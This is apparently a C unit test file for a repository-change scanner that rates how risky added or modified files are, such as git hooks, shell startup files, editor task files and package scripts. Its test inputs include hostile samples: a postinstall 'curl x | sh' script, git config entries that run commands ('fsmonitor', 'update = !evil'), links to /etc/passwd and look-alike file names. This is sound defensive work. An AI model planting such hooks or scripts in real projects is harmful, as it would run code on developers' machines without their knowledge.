/* users: one */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>
#include <sys/stat.h>

#include "base/auto.h"
#include "guard/parse/parse_worker.h"
#include "guard/rules/risk.h"
#include "tests/unit/executes.h"

struct sides {
	const char *old, *now;
};

static bool read_side(void *arg, bool now, struct buf *to)
{
	const struct sides *s = arg;
	const char *text = now ? s->now : s->old;

	if (!text)
		return false;
	buf_add_text(to, text);
	return true;
}

static void judge(const char *path, uint32_t old_mode, uint32_t now_mode,
		  const char *old, const char *now, struct risks *ret)
{
	struct sides s = {old, now};
	struct risk_file f = {
		.path = path,
		.old_mode = old_mode,
		.now_mode = now_mode,
		.old_size = old ? strlen(old) : 0,
		.now_size = now ? strlen(now) : 0,
		.read = read_side,
		.arg = &s,
	};

	risk_judge(&f, ret);
}

static bool tells(const struct risks *r, const char *text)
{
	size_t i;

	for (i = 0; i < r->count; i++) {
		auto_free char *sentence = risk_sentence(&r->items[i]);

		if (strstr(sentence, text))
			return true;
	}
	return false;
}

#define FILE_MODE (S_IFREG | 0644)

/* The level of a name alone. */
static enum risk_level level_by_name(const char *path)
{
	return risk_by_name(path);
}

/* The level of an added file; in generated directories of a changed one. */
static enum risk_level level_of(const char *path)
{
	AUTO(risks) struct risks r = {0};
	bool was = risk_in_generated(path);

	judge(path, was ? FILE_MODE : 0, FILE_MODE, was ? "y\n" : NULL, "x\n",
	      &r);
	return risks_worst(&r);
}

static void names_that_run_are_known_at_any_depth(void **state)
{
	(void)state;
	assert_int_equal(level_by_name(".vscode/tasks.json"), RISK_CRITICAL);
	assert_int_equal(level_by_name("sub/.vscode/tasks.json"),
			 RISK_CRITICAL);
	assert_int_equal(level_by_name(".git/hooks/pre-commit"), RISK_CRITICAL);
	assert_int_equal(level_by_name(".git/modules/a/config"), RISK_CRITICAL);
	assert_int_equal(level_by_name(".envrc"), RISK_CRITICAL);
	assert_int_equal(level_by_name("CLAUDE.md"), RISK_CRITICAL);
	assert_int_equal(level_by_name("Makefile"), RISK_HIGH);
	assert_int_equal(level_by_name("lib/rules.mk"), RISK_HIGH);
	assert_int_equal(level_by_name(".github/workflows/a.yml"), RISK_HIGH);
	assert_int_equal(level_by_name("Dockerfile.dev"), RISK_HIGH);
	assert_int_equal(level_by_name("package-lock.json"), RISK_NOTE);
	assert_int_equal(level_by_name(".gitignore"), RISK_NOTE);
}

/* Its directory's files would have such names. */
static void
a_link_in_place_of_a_known_directory_is_judged_by_its_files(void **state)
{
	static const struct {
		const char *path;
		enum risk_level level;
	} links[] = {
		{".vscode", RISK_CRITICAL}, {"a/.claude", RISK_CRITICAL},
		{".github", RISK_CRITICAL}, {".github/workflows", RISK_HIGH},
		{".envrc", RISK_CRITICAL},  {".config", RISK_CRITICAL},
		{".husky", RISK_HIGH},	    {"go", RISK_NONE},
		{"vscode", RISK_NONE},	    {"x/a", RISK_NONE},
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(links) / sizeof(*links); i++) {
		AUTO(risks) struct risks r = {0};

		judge(links[i].path, 0, S_IFLNK | 0777, NULL, "b", &r);
		if (risks_worst(&r) != links[i].level)
			print_error("%s\n", links[i].path);
		assert_int_equal(risks_worst(&r), links[i].level);
	}
}

static void the_place_of_a_root_counts_for_its_files(void **state)
{
	static const struct {
		const char *root, *above;
	} roots[] = {
		{"/home/u/.ssh", "u/.ssh"},
		{"/home/u/.config", "u/.config"},
		{"/home/u/.config/nvim", ".config/nvim"},
		{"/etc", "etc"},
		{"/home/u/project", NULL},
		{"/home/u/.claude/worktrees/project", NULL},
		{"/home/u/bin", NULL},
	};
	AUTO(risks) struct risks r = {0};
	struct sides s = {NULL, "x"};
	const struct risk_file f = {
		.path = "authorized_keys",
		.above = "u/.ssh",
		.now_mode = FILE_MODE,
		.now_size = 1,
		.read = read_side,
		.arg = &s,
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(roots) / sizeof(*roots); i++) {
		auto_free char *above = risk_above(roots[i].root);

		if (!roots[i].above)
			assert_null(above);
		else
			assert_string_equal(above, roots[i].above);
	}
	risk_judge(&f, &r);
	assert_string_equal(r.items[0].id, "login-start");
}

static void what_a_home_folder_executes_is_known(void **state)
{
	static const char *const names[] = {
		".gitconfig",
		".config/git/config",
		".config/git/hooks/pre-commit",
		".hgrc",
		".bashrc",
		".config/zsh/.zshrc",
		".direnvrc",
		".tmux.conf",
		".config/tmux/tmux.conf",
		".screenrc",
		".config/kitty/kitty.conf",
		".local/bin/ls",
		".cargo/bin/cargo",
		".docker/cli-plugins/docker-x",
		".config/systemd/user/x.service",
		".local/share/systemd/user/x.service",
		".local/share/dbus-1/services/x.service",
		".local/share/applications/x.desktop",
		".config/autostart/x.desktop",
		".config/i3/config",
		".crontab",
		".ssh/authorized_keys",
		".config/nvim/init.lua",
		".config/Code/User/tasks.json",
		".nanorc",
		".ipython/profile_default/startup/x.py",
		".pdbrc",
		".mailcap",
		".lessfilter",
		".curlrc",
		".config/mpv/scripts/x.lua",
		".gradle/init.d/x.gradle",
		".m2/settings.xml",
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(names) / sizeof(*names); i++)
		if (level_by_name(names[i]) < RISK_HIGH)
			fail_msg("%s", names[i]);
	assert_int_equal(level_by_name(".config/app/settings"), RISK_NONE);
	assert_int_equal(level_by_name(".gradle/caches/x"), RISK_NONE);
}

/* The number of names with the lowest level, a note. */
static size_t count_notes(const char *names)
{
	char name[128];
	size_t notes = 0;

	for (; *names; names += strcspn(names, "|") + 1) {
		enum risk_level level;

		assert_true(strcspn(names, "|") < sizeof(name));
		(void)snprintf(name, sizeof(name), "%.*s",
			       (int)strcspn(names, "|"), names);
		level = risk_in_generated(name) ? level_of(name)
						: level_by_name(name);
		if (level < RISK_NOTE)
			fail_msg("%s", name);
		notes += level == RISK_NOTE;
	}
	return notes;
}

static void whatever_is_known_to_execute_is_named(void **state)
{
	(void)state;
	/* Lock files, tests, directories like bin. */
	assert_true(count_notes(executes_a) <= 12);
	assert_true(count_notes(executes_b) <= 46);
	(void)count_notes(executes_c);
	assert_true(level_of("a/b.sh") == RISK_NOTE);
	assert_true(level_of("a/lib.so") == RISK_HIGH);
	assert_true(level_of("a/libx.so.1.5") == RISK_HIGH);
	assert_true(level_by_name("unheard-of.config.mjs") == RISK_HIGH);
	assert_true(level_by_name(".unheardofrc.cjs") == RISK_HIGH);
}

/* "vendor/lib" is a repository; "commondir" alone makes no worktree. */
static bool exists_in_repository(void *arg, const char *path)
{
	static const char *const paths[] = {
		"vendor/lib/HEAD",  "vendor/lib/objects",    "vendor/lib/refs",
		"vendor/tree/HEAD", "vendor/tree/commondir", "bad/HEAD",
		"bad/objects"};
	size_t i;

	(void)arg;
	for (i = 0; i < sizeof(paths) / sizeof(*paths); i++)
		if (strcmp(paths[i], path) == 0)
			return true;
	return false;
}

static enum risk_level level_in_repository(const char *path)
{
	AUTO(risks) struct risks r = {0};
	struct risk_file f = {
		.path = path,
		.old_mode = FILE_MODE,
		.now_mode = FILE_MODE,
		.old_size = 1,
		.now_size = 2,
		.read = read_side,
		.exists = exists_in_repository,
		.arg = &(struct sides){"x", "fsmonitor = y\n* filter=z\n"},
	};

	risk_judge(&f, &r);
	return risks_worst(&r);
}

static void a_repository_is_known_by_its_content(void **state)
{
	(void)state;
	assert_int_equal(level_in_repository("vendor/lib/hooks/post-commit"),
			 RISK_CRITICAL);
	assert_int_equal(level_in_repository("vendor/lib/config"),
			 RISK_CRITICAL);
	assert_int_equal(level_in_repository("vendor/tree/commondir"),
			 RISK_CRITICAL);
	assert_int_equal(level_in_repository("vendor/lib/info/attributes"),
			 RISK_HIGH);
	assert_true(level_in_repository("vendor/lib/hooks/x.sample") <
		    RISK_HIGH);
	assert_true(level_in_repository("bad/config") < RISK_HIGH);
	assert_true(level_in_repository("vendor/lib/refs/heads/x") < RISK_HIGH);
}

/* A root with links alone; the directories of other tools are outside. */
static uint32_t look_at_links(void *arg, const char *path, bool now,
			      struct buf *target)
{
	static const char *const links[][2] = {
		{"/p/.envrc", "setup/./env"},
		{"/p/.vscode", "/p/conf"},
		{"/p/.bashrc", "/etc/bashrc"},
		{"/p/.zshrc", "../zshrc"},
		{"/p/README.md", "docs/README.md"},
		{"/home/.zshrc", "x/two"},
		{"/home/x/two", "../../p/dot/zshrc"},
		{"/home/.profile", ".login"},
		{"/home/.login", ".profile"},
	};
	static const char *const dirs[] = {"/p",     "/p/setup", "/p/conf",
					   "/etc",   "/home",	 "/home/x",
					   "/p/dot", NULL};
	size_t i;

	(void)arg;
	(void)now;
	for (i = 0; i < sizeof(links) / sizeof(*links); i++)
		if (strcmp(path, links[i][0]) == 0) {
			buf_add_text(target, links[i][1]);
			return S_IFLNK | 0777;
		}
	return mem_list_has(dirs, path) ? S_IFDIR | 0755 : S_IFREG | 0644;
}

static bool read_no_file(void *arg, const char *path, bool now, struct buf *to)
{
	(void)arg;
	(void)path;
	(void)now;
	(void)to;
	return false;
}

static void a_file_has_the_names_of_the_links_to_it(void **state)
{
	static const struct {
		const char *path, *id; /* NULL: nothing critical */
	} cases[] = {
		{"setup/env", "directory-enter"},
		{"conf/launch.json", "editor-open"},
		{"dot/zshrc", "shell-start"},
		{"setup/other", NULL},
		{"confx/launch.json", NULL},
		{"tools/run.sh", NULL},
		{"etc/bashrc", NULL},
		{"docs/README.md", NULL},
	};
	char *changed[] = {".envrc", ".vscode",	  ".bashrc",
			   ".zshrc", "README.md", NULL};
	const struct risk_tree tree = {.root = "/p",
				       .home = "/home",
				       .look = look_at_links,
				       .read = read_no_file};
	AUTO(risk_refs) struct risk_refs refs = {0};
	size_t i;

	(void)state;
	risk_refs_find(&tree, changed, false, &refs);
	for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		struct sides s = {"x", "y"};
		AUTO(risks) struct risks r = {0};
		struct risk_file f = {
			.path = cases[i].path,
			.refs = &refs,
			.old_mode = FILE_MODE,
			.now_mode = FILE_MODE,
			.old_size = 1,
			.now_size = 1,
			.read = read_side,
			.arg = &s,
		};

		risk_judge_critical(&f, &r);
		if (!cases[i].id)
			assert_int_equal(r.count, 0);
		else
			assert_string_equal(r.items[0].id, cases[i].id);
	}
}

static void names_that_only_look_alike_are_not(void **state)
{
	(void)state;
	assert_int_equal(level_of("src/main.c"), RISK_NONE);
	assert_int_equal(level_of("Makefile2"), RISK_NONE);
	assert_int_equal(level_of("vscode/tasks.json"), RISK_NONE);
	assert_int_equal(level_of("x.git/hooks/pre-commit"), RISK_NONE);
	assert_int_equal(level_of(".git/hooks/pre-commit.sample"), RISK_NONE);
	assert_int_equal(level_of("docs/workflows/a.yml"), RISK_NONE);
	assert_int_equal(level_of(".github/workflows"), RISK_NONE);
	assert_int_equal(level_of("a/b/c/d.txt"), RISK_NONE);
}

static void a_new_script_of_a_package_is_named(void **state)
{
	AUTO(risks) struct risks r = {0};

	(void)state;
	judge("package.json", FILE_MODE, FILE_MODE,
	      "{\"scripts\": {\"test\": \"jest\"}}",
	      "{\"scripts\": {\"test\": \"jest\", "
	      "\"postinstall\": \"curl x | sh\\u001b[2J\"}}",
	      &r);
	assert_true(tells(&r, "scripts.postinstall: curl x | sh\\x1b[2J"));
	assert_false(tells(&r, "jest"));
}

static void a_package_that_is_no_json_is_no_end(void **state)
{
	AUTO(risks) struct risks r = {0};

	(void)state;
	judge("package.json", FILE_MODE, FILE_MODE, "[]", "{\"scripts\": [1]}",
	      &r);
	judge("package.json", FILE_MODE, FILE_MODE, "{", "}", &r);
	assert_int_equal(risks_worst(&r), RISK_HIGH);
	assert_true(tells(&r, "is not valid JSON"));
}

static void settings_of_git_that_run_commands_are_named(void **state)
{
	AUTO(risks) struct risks r = {0};

	(void)state;
	judge(".git/config", FILE_MODE, FILE_MODE,
	      "[core]\n\tbare = false\n\tpager = less\n",
	      "[core]\n\tbare = true\n\tpager = less\n\tfsmonitor = /tmp/x\n"
	      "[filter \"f\"]\n\tclean=evil\n",
	      &r);
	assert_true(tells(&r, "fsmonitor = /tmp/x"));
	assert_true(tells(&r, "clean=evil"));
	assert_false(tells(&r, "pager"));
	assert_false(tells(&r, "bare"));
	assert_int_equal(risks_worst(&r), RISK_CRITICAL);
}

static void what_git_init_writes_is_no_command(void **state)
{
	AUTO(risks) struct risks r = {0};
	AUTO(risks) struct risks update = {0};

	(void)state;
	judge(".git/config", 0, FILE_MODE, NULL,
	      "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n"
	      "\tbare = false\n\tlogallrefupdates = true\n",
	      &r);
	assert_true(risks_worst(&r) < RISK_HIGH);
	judge(".git/config", FILE_MODE, FILE_MODE, "",
	      "[submodule \"x\"]\n\tupdate = !evil\n", &update);
	assert_true(tells(&update, "update = !evil"));
	assert_int_equal(risks_worst(&update), RISK_CRITICAL);
}

/* As git reads them: all of this is one line, or begins with a mark. */
static void settings_in_odd_places_are_named(void **state)
{
	static const char *const texts[] = {
		"[core] fsmonitor = evil\n",
		"\xef\xbb\xbf[core]fsmonitor = evil\n",
		"[a \"]\"] x = y\n[core \t]\tfsmonitor = evil\n",
		"[a \"]\\\"]\"] fsmonitor = evil\n",
		"[a] b = c\r\n[core] fsmonitor = evil\r\n",
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(texts) / sizeof(*texts); i++) {
		AUTO(risks) struct risks r = {0};

		judge(".git/config", FILE_MODE, FILE_MODE, "", texts[i], &r);
		if (!tells(&r, "fsmonitor = evil"))
			fail_msg("%s", texts[i]);
	}
}

static void a_repository_in_other_files_is_told(void **state)
{
	AUTO(risks) struct risks r = {0}, own = {0};

	(void)state;
	judge("docs/x/HEAD", 0, FILE_MODE, NULL, "ref: refs/heads/x\n", &r);
	assert_true(tells(&r, "repository"));
	assert_int_equal(risks_worst(&r), RISK_CRITICAL);
	judge(".git/HEAD", 0, FILE_MODE, NULL, "ref: refs/heads/x\n", &own);
	assert_int_equal(own.count, 0);
}

static void links_that_lead_out_are_told(void **state)
{
	static const struct {
		const char *path, *target;
		bool out;
	} cases[] = {
		{"a", "b", false},	    {"a/b", "../c", false},
		{"a", "../c", true},	    {"a/b", "../../c", true},
		{"a", "/etc/passwd", true}, {"a", "b/../../c", true},
		{"a/b/c", "../..", false},
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		AUTO(risks) struct risks r = {0};

		judge(cases[i].path, 0, S_IFLNK | 0777, NULL, cases[i].target,
		      &r);
		assert_int_equal(tells(&r, "leads out"), cases[i].out);
	}
}

static void links_in_a_repository_are_told(void **state)
{
	AUTO(risks) struct risks r = {0}, other = {0};

	(void)state;
	judge(".git/modules", 0, S_IFLNK | 0777, NULL, "../evil", &r);
	assert_true(tells(&r, "from elsewhere"));
	judge("git/modules", 0, S_IFLNK | 0777, NULL, "../evil", &other);
	assert_false(tells(&other, "from elsewhere"));
}

static void what_a_file_became_is_told(void **state)
{
	AUTO(risks) struct risks r = {0};

	(void)state;
	judge("a", FILE_MODE, S_IFREG | 0755, "x", "x", &r);
	assert_true(tells(&r, "is executable now"));
	judge("a", FILE_MODE, FILE_MODE, "x", "", &r);
	assert_true(tells(&r, "is empty now"));
	judge("a", FILE_MODE, FILE_MODE, "x", "x = 1; // \u202e} {\n", &r);
	assert_true(tells(&r, "has invisible characters (U+202E, line 1)"));
	judge("-rf", 0, FILE_MODE, NULL, "x", &r);
	assert_true(tells(&r, "looks like an option"));
	judge("a\u200bb", 0, FILE_MODE, NULL, "x", &r);
	assert_true(tells(&r, "invisible"));
	judge(".git", S_IFDIR | 0755, 0, NULL, NULL, &r);
	assert_true(tells(&r, "with its complete history"));
	judge("x/.GIT", 0, S_IFDIR | 0755, NULL, NULL, &r);
	assert_true(tells(&r, "that ignore case"));
}

/* No user reads generated files. */
static void what_is_hidden_among_packages_is_told(void **state)
{
	static const struct {
		const char *path, *old, *now, *told;
	} cases[] = {
		{"node_modules/a/i.js", "x", "y", "has changed"},
		{"node_modules/a/i.js", "x", "x", NULL},
		{"node_modules/a/i.js", NULL, "x", NULL},
		{"node_modules/.pnpm/a/node_modules/a/i.js", "x", "y",
		 "has changed"},
		{"node_modules/.cache/a", "x", "y", NULL},
		{"node_modules/.package-lock.json", "x", "y", NULL},
		{"node_modules/.bin/a", "x", "y", "before programs"},
		{"sub/.venv/bin/activate", "x", "y", "before programs"},
		{".venv/lib/a/__pycache__/a.h", "x", "y", NULL},
		{".venv/lib/a/x.pth", NULL, "x", "when a program of that"},
		{".venv/lib/a/sitecustomize.py", NULL, "x",
		 "when a program of that"},
		{".venv/lib/a/a.py", NULL, "x", NULL},
		{"src/a.py", "x", "y", NULL},
		{"venv-x/a.py", "x", "y", NULL},
		{"node_modules/a\u202eb", NULL, "x", "invisible"},
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		AUTO(risks) struct risks r = {0};

		judge(cases[i].path, cases[i].old ? FILE_MODE : 0, FILE_MODE,
		      cases[i].old, cases[i].now, &r);
		if ((risks_worst(&r) >= RISK_HIGH) != !!cases[i].told ||
		    (cases[i].told && !tells(&r, cases[i].told)))
			fail_msg("%s", cases[i].path);
	}
}

static void links_and_nodes_among_packages_are_told(void **state)
{
	AUTO(risks) struct risks r = {0};

	(void)state;
	judge(".venv/bin/python3", 0, S_IFLNK | 0777, NULL, "/usr/bin/python3",
	      &r);
	judge("node_modules/a", 0, S_IFLNK | 0777, NULL, "../packages/a", &r);
	assert_int_equal(r.count, 0);
	judge("node_modules/a", 0, S_IFLNK | 0777, NULL, "../../a", &r);
	assert_int_equal(r.count, 1);
	judge(".venv/bin/python3", S_IFLNK | 0777, S_IFLNK | 0777, NULL,
	      "/tmp/x", &r);
	assert_true(r.count >= 2);
	judge("node_modules/a", 0, S_IFIFO | 0644, NULL, NULL, &r);
	assert_true(tells(&r, "is not a file"));
	risks_free(&r);
	judge("node_modules/.bin", 0, S_IFLNK | 0777, NULL, "../tools", &r);
	judge(".venv/bin", 0, S_IFLNK | 0777, NULL, "../tools", &r);
	judge("a/.bin", 0, S_IFLNK | 0777, NULL, "../tools", &r);
	assert_int_equal(r.count, 3);
	assert_int_equal(r.items[2].level, RISK_HIGH);
	judge("node_modules/b", S_IFDIR | 0755, S_IFLNK | 0777, NULL, "c", &r);
	assert_true(tells(&r, "was a directory"));
}

static void programs_that_people_type_are_told(void **state)
{
	static const uint32_t program = S_IFREG | 0755, link = S_IFLNK | 0777;
	static const struct {
		const char *path;
		uint32_t old_mode, now_mode;
		const char *now;
		bool told;
	} cases[] = {
		{"node_modules/.bin/git", 0, program, "#!/bin/sh\n", true},
		{"node_modules/.bin/ls", 0, link, "../evil/ls", true},
		{"a/node_modules/.bin/npm", 0, link, "../evil/npm.js", true},
		{"node_modules/.bin/npx", 0, link, "../npm/bin/x.js", true},
		{"node_modules/.bin/node", 0, program, "\177ELF", true},
		{".venv/bin/sudo", 0, program, "#!/bin/sh\n", true},
		{".venv/bin/python", 0, program, "#!/bin/sh\n", true},
		{".venv/bin/python3.12", 0, link, "/tmp/x", true},
		{"venv/bin/ssh", 0, link, "../../x", true},
		{"bin/make", 0, program, "x", true},
		{"bin/make", FILE_MODE, program, "x", true},
		{"bin/curl", program, link, "x", true},
		{"tools/sbin/env", 0, program, "x", true},
		{"vendor/bin/php", 0, program, "x", true},
		{"x/Scripts/python", 0, program, "x", true},
		{"bin/clang++-18", 0, program, "x", true},
		/* This machine has it, and no rule. */
		{"bin/cksum", 0, program, "x", true},
		/* Programs that tools put there, and other names. */
		{"node_modules/.bin/tsc", 0, link, "../t/bin/tsc", false},
		{"node_modules/.bin/npx", 0, link, "../npm/bin/npx-cli.js",
		 false},
		{"node_modules/.bin/which", 0, link, "../which/bin/which",
		 false},
		{"node_modules/.bin/mytool", 0, program, "#!/bin/sh\n", false},
		{".venv/bin/python", 0, link, "/usr/bin/python3", false},
		{".venv/bin/python3", 0, link, "python", false},
		{".venv/bin/python3.12", 0, program, "\177ELF", false},
		{".venv/bin/pip", 0, program, "#!/p/.venv/bin/python\n", false},
		{".venv/bin/cksum", 0, program, "#!/p/.venv/bin/python\n",
		 false},
		{"bin/git", 0, FILE_MODE, "text", false},
		{"bin/test", 0, program, "x", false},
		{"bin/git", program, program, "old", false},
		{"lib/git", 0, program, "x", false},
		{"git", 0, program, "x", false},
		{"vendor/bin/mytool", 0, program, "x", false},
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		AUTO(risks) struct risks r = {0};

		judge(cases[i].path, cases[i].old_mode, cases[i].now_mode,
		      cases[i].old_mode ? "old" : NULL, cases[i].now, &r);
		if (tells(&r, "is typed") != cases[i].told ||
		    (!cases[i].told && risks_worst(&r) >= RISK_HIGH))
			fail_msg("%zu: %s", i, cases[i].path);
	}
}

#define SOURCE "1234\x10\x10\x10\x10" /* the source's mtime and size */

static void compiled_code_that_no_python_leaves_is_told(void **state)
{
	static const struct {
		const char *path, *old, *now, *told;
	} cases[] = {
		{"a.pyc", NULL, "x", "without a source"},
		{"sub/a.pyc", "x", "y", "without a source"},
		/* Flags are bytes 4 to 7: no NUL here, bit 1 is "compare". */
		{"__pycache__/a.pyc", NULL, "mag_\x01\x10\x10\x10" SOURCE "c",
		 "does not compare"},
		{"__pycache__/a.pyc", NULL, "mag_\x03\x10\x10\x10" SOURCE "c",
		 NULL},
		{"__pycache__/a.pyc", "mag_\x10\x10\x10\x10" SOURCE "c",
		 "mag_\x10\x10\x10\x10" SOURCE "d", "its code changed"},
		{"__pycache__/a.pyc", "mag_\x10\x10\x10\x10" SOURCE "c",
		 "new_\x10\x10\x10\x10" SOURCE "d", NULL},
		{"__pycache__/a.pyc", "mag_\x10\x10\x10\x10" SOURCE "c",
		 "mag_\x10\x10\x10\x10"
		 "5678\x10\x10\x10\x10"
		 "d",
		 NULL},
		{".venv/lib/a.pyc", NULL, "x", NULL},
		{".venv/lib/__pycache__/a.pyc",
		 "mag_\x10\x10\x10\x10" SOURCE "c",
		 "mag_\x10\x10\x10\x10" SOURCE "d", "its code changed"},
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		AUTO(risks) struct risks r = {0};

		judge(cases[i].path, cases[i].old ? FILE_MODE : 0, FILE_MODE,
		      cases[i].old, cases[i].now, &r);
		if ((risks_worst(&r) >= RISK_HIGH) != !!cases[i].told ||
		    (cases[i].told && !tells(&r, cases[i].told)))
			fail_msg("%zu: %s", i, cases[i].path);
	}
}

static bool read_bytes(void *arg, bool now, struct buf *to)
{
	static const char text[] = "function a() { return 1; }\n";
	static const char hidden[] = "function a() { return 1; }\n//\0\nb()";

	if (now)
		buf_add(to, hidden, sizeof(hidden) - 1);
	else
		buf_add(to, text, sizeof(text) - 1);
	(void)arg;
	return true;
}

/* A reviewer does not see files that git calls "binary". */
static void a_text_that_is_made_binary_is_told(void **state)
{
	static const struct {
		const char *path;
		bool was, told;
	} cases[] = {
		{"a.js", false, true},
		{"a.js", true, true},
		{"a.png", false, false},
		{"tool", true, true},
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		AUTO(risks) struct risks r = {0};
		struct risk_file f = {
			.path = cases[i].path,
			.old_mode = cases[i].was ? FILE_MODE : 0,
			.now_mode = FILE_MODE,
			.old_size = cases[i].was ? 27 : 0,
			.now_size = 34,
			.read = read_bytes,
		};

		risk_judge(&f, &r);
		assert_int_equal(tells(&r, "has a NUL"), cases[i].told);
	}
}

static void another_one_that_looks_the_same_is_told(void **state)
{
	AUTO(risks) struct risks same = {0}, other = {0};
	struct sides s = {"return 0;", "return 1;"};
	struct risk_file f = {
		.path = "a.c",
		.old_mode = FILE_MODE,
		.now_mode = FILE_MODE,
		.old_size = 9,
		.now_size = 9,
		.same_time = true,
		.read = read_side,
		.arg = &s,
	};

	(void)state;
	risk_judge(&f, &same);
	assert_true(tells(&same, "with the old size and mtime"));
	f.same_time = false;
	risk_judge(&f, &other);
	assert_int_equal(other.count, 0);
}

static void letters_that_look_alike_are_told(void **state)
{
	static const struct {
		const char *name;
		bool told;
	} cases[] = {
		{"p\u0430ckage.json", true},
		{"\u0440\u0430\u0437", false},
		{"README-\u0440\u0430\u0437.md", false},
		{"\u039fpen.c", true},
		{"\uff4dain.c", true},
		{"m\uff41in.c", true},
		{"na\u00efve.c", false},
		{"\u0394t.c", false},
		{"\u65e5\u672ca.c", false},
		{"\uff71a.c", false},
	};
	AUTO(risks) struct risks own = {0};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		AUTO(risks) struct risks r = {0};

		judge(cases[i].name, 0, FILE_MODE, NULL, "x", &r);
		if (tells(&r, "its name mixes") != cases[i].told)
			fail_msg("%s", cases[i].name);
	}
	judge("a", FILE_MODE, FILE_MODE, "us\u0435r", "x\nus\u0435r", &own);
	assert_int_equal(own.count, 0);
	judge("a", FILE_MODE, FILE_MODE, "user", "if us\u0435r", &own);
	assert_true(tells(&own, "has words that mix"));
}

static void where_a_package_comes_from_is_told(void **state)
{
	AUTO(risks) struct risks r = {0};

	(void)state;
	judge("package.json", FILE_MODE, FILE_MODE,
	      "{\"dependencies\":{\"a\":\"^1\",\"b\":\"git+ssh://h/b\"}}",
	      "{\"dependencies\":{\"a\":\"http://h/a.tgz\","
	      "\"b\":\"git+ssh://h/b\",\"c\":\"~2 || 3\","
	      "\"w\":\"workspace:*\"},"
	      "\"overrides\":{\"d\":\"someone/d\"}}",
	      &r);
	assert_true(tells(&r, "dependencies.a: http://h/a.tgz"));
	assert_true(tells(&r, "overrides.d: someone/d"));
	assert_false(tells(&r, "dependencies.b"));
	assert_false(tells(&r, "dependencies.c"));
	assert_false(tells(&r, "dependencies.w"));
}

static void the_worst_comes_first(void **state)
{
	AUTO(risks) struct risks r = {0};
	size_t i;

	(void)state;
	judge(".envrc", 0, S_IFREG | 0777, NULL, "-----BEGIN PRIVATE KEY----\n",
	      &r);
	assert_true(r.count >= 3);
	assert_int_equal(r.items[0].level, RISK_CRITICAL);
	for (i = 1; i < r.count; i++)
		assert_true(r.items[i].level <= r.items[i - 1].level);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_place_of_a_root_counts_for_its_files),
		cmocka_unit_test(a_file_has_the_names_of_the_links_to_it),
		cmocka_unit_test(
			a_link_in_place_of_a_known_directory_is_judged_by_its_files),
		cmocka_unit_test(names_that_run_are_known_at_any_depth),
		cmocka_unit_test(what_a_home_folder_executes_is_known),
		cmocka_unit_test(whatever_is_known_to_execute_is_named),
		cmocka_unit_test(names_that_only_look_alike_are_not),
		cmocka_unit_test(a_repository_is_known_by_its_content),
		cmocka_unit_test(a_new_script_of_a_package_is_named),
		cmocka_unit_test(a_package_that_is_no_json_is_no_end),
		cmocka_unit_test(settings_of_git_that_run_commands_are_named),
		cmocka_unit_test(what_git_init_writes_is_no_command),
		cmocka_unit_test(settings_in_odd_places_are_named),
		cmocka_unit_test(a_repository_in_other_files_is_told),
		cmocka_unit_test(links_that_lead_out_are_told),
		cmocka_unit_test(links_in_a_repository_are_told),
		cmocka_unit_test(what_a_file_became_is_told),
		cmocka_unit_test(what_is_hidden_among_packages_is_told),
		cmocka_unit_test(links_and_nodes_among_packages_are_told),
		cmocka_unit_test(programs_that_people_type_are_told),
		cmocka_unit_test(compiled_code_that_no_python_leaves_is_told),
		cmocka_unit_test(a_text_that_is_made_binary_is_told),
		cmocka_unit_test(another_one_that_looks_the_same_is_told),
		cmocka_unit_test(letters_that_look_alike_are_told),
		cmocka_unit_test(where_a_package_comes_from_is_told),
		cmocka_unit_test(the_worst_comes_first),
	};

	parse_worker_install();
	return cmocka_run_group_tests(tests, NULL, NULL);
}
